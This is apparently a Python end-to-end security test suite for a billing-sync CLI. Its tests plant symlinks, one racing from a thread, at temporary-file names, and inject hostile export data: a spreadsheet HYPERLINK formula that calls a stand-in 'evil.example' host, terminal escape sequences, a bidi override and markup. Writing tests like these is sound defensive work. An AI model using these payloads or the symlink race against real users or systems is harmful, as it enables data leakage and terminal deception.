"""Reports, backups and terminals facing a hostile world: planted links, hostile Stampli data.

Everything runs through the real CLI against the sandboxes; the attacks are
real symbolic links in the target folder and real Stampli exports on the
in-process SFTP server.
"""

import contextlib
import csv
import io
import json
import os
import threading
from pathlib import Path

from fbstampli.sandbox.stampli import StampliSimulator
from tests.e2e.conftest import Connected
from tests.support.cli import on_a_terminal, run


def pushed(connected: Connected) -> StampliSimulator:
    assert connected.run("push-bills").code == 0
    return StampliSimulator(connected.sftp.root)


# ---- report and backup targets ----------------------------------------------------------------


def test_reconcile_output_never_writes_through_a_link_planted_as_its_temporary(
    connected: Connected, tmp_path: Path
) -> None:
    # Once: the report went into `.report.csv.tmp` -> the other user's file, and that link
    # was then renamed to report.csv.
    shared = tmp_path / "shared"
    shared.mkdir()
    theirs = tmp_path / "theirs.txt"
    theirs.write_text("")
    report = shared / "report.csv"
    (shared / ".report.csv.tmp").symlink_to(theirs)
    pushed(connected)
    result = connected.run("reconcile", "--format", "csv", "--output", str(report))
    assert result.code == 0, result.output
    assert theirs.read_text() == ""
    assert not report.is_symlink()
    assert report.read_text().startswith("fb_bill_id,")
    assert oct(report.stat().st_mode & 0o777) == oct(0o600)
    assert sorted(p.name for p in shared.iterdir()) == [".report.csv.tmp", "report.csv"]


def test_state_backup_never_writes_through_a_link_planted_as_its_temporary(
    tmp_path: Path,
) -> None:
    # The old temporary had a fixed name; it was unlinked first, so the attacker re-plants
    # the link in a tight loop between that unlink and the write.
    home = tmp_path / "home"
    assert run(home, "init", "--key-source", "file").code == 0
    shared = tmp_path / "shared"
    shared.mkdir()
    victim = tmp_path / "root-owned"
    victim.write_bytes(b"")
    planted = shared / ".backup.db.tmp"
    stop = threading.Event()

    def plant() -> None:
        while not stop.is_set():
            with contextlib.suppress(FileExistsError):
                planted.symlink_to(victim)

    planter = threading.Thread(target=plant, daemon=True)
    planter.start()
    try:
        results = [run(home, "state", "backup", str(shared / "backup.db")) for _ in range(5)]
    finally:
        stop.set()
        planter.join()
    assert victim.read_bytes() == b""
    assert [r.code for r in results] == [0] * 5, [r.output for r in results]
    backup = shared / "backup.db"
    assert not backup.is_symlink()
    assert backup.stat().st_size > 0
    assert os.stat(backup).st_mode & 0o077 == 0


# ---- hostile Stampli data in reports and on terminals -----------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak","open me")'
# An OSC title change, an OSC 8 link, a C1 CSI, a bidi override and Rich markup.
ESCAPES = (
    "\x1b]0;pwned\x07"
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"
    "\x9b31m\u202e[bold red]RED[/]"
)


def hostile_capture(connected: Connected) -> int:
    """A capture export whose invoice id is a formula, then control sequences and markup."""
    stampli = pushed(connected)
    bill = min(stampli.inbound_bills().values(), key=lambda b: b.fb_id)
    stampli.invoice_id = lambda bill_id: FORMULA + ESCAPES  # type: ignore[method-assign]
    stampli.export_captures([bill])
    pulled = connected.run("pull-stampli", "--now")
    assert pulled.code == 0, pulled.output
    return bill.fb_id


def run_on_a_terminal(home: Path, *args: str) -> str:
    """What the CLI showed on a pseudo-terminal (Rich renders its table); it must succeed."""
    code, shown = on_a_terminal(home, *args)
    assert code == 0, shown
    return shown


def assert_no_raw_controls(text: str) -> None:
    for raw in ("\x1b]0;", "\x1b]8;", "\x07", "\x9b", "\u202e"):
        assert raw not in text, repr(raw)


def test_every_csv_report_neutralises_a_formula_from_stampli(connected: Connected) -> None:
    fb_id = hostile_capture(connected)
    audit = connected.run("audit", "--bill", str(fb_id), "--format", "csv")
    assert audit.code == 0, audit.output
    reconcile = connected.run("reconcile", "--format", "csv")
    assert reconcile.code in (0, 1), reconcile.output
    for text in (audit.stdout, reconcile.stdout):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)  # the data is there, as text
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_hostile_export_fields_reach_the_terminal_inert(connected: Connected) -> None:
    fb_id = hostile_capture(connected)
    piped = connected.run("audit", "--bill", str(fb_id))
    assert piped.code == 0
    assert_no_raw_controls(piped.stdout)
    assert "\\x1b]0;pwned" in piped.stdout  # shown, escaped, not obeyed
    shown = run_on_a_terminal(connected.home, "audit", "--bill", str(fb_id))
    assert_no_raw_controls(shown)
    assert "bold red" in shown  # the markup is printed ...
    assert "\x1b[1;31m" not in shown  # ... not applied


# ---- hostile exports on the SFTP server -------------------------------------------------------


def test_an_export_with_a_249_byte_name_is_stored_and_pull_keeps_working(
    connected: Connected,
) -> None:
    # Once ENAMETOOLONG: `<id>-<name>` no longer fit, and every later sync exited 70.
    stampli = pushed(connected)
    bills = list(stampli.inbound_bills().values())
    export = stampli.export_captures(bills)
    long_name = "stampli_capture_" + "x" * (249 - len("stampli_capture_.csv")) + ".csv"
    assert len(long_name.encode()) == 249
    export.rename(export.with_name(long_name))
    first = connected.run("pull-stampli", "--now", "--json")
    assert first.code == 0, first.output
    assert json.loads(first.stdout)["counts"]["records"] == len(bills)
    assert connected.run("sync").code == 0


def test_an_export_with_500k_header_columns_is_quarantined_and_the_next_file_stored(
    connected: Connected,
) -> None:
    stampli = pushed(connected)
    bills = list(stampli.inbound_bills().values())
    wide = connected.sftp.root / "outbound" / "stampli_capture_wide.csv"
    wide.write_text("Stampli Invoice ID," + ",".join(f"c{n}" for n in range(500_000)) + "\r\n")
    stampli.export_captures(bills)
    result = connected.run("pull-stampli", "--now", "--json")
    assert result.code == 1, result.output
    report = json.loads(result.stdout)
    assert report["counts"]["records"] == len(bills)
    assert report["counts"]["quarantined"] == 1
    assert "more than 1000 columns" in report["problems"][0]
    assert connected.run("pull-stampli", "--now").code == 0  # set aside for good
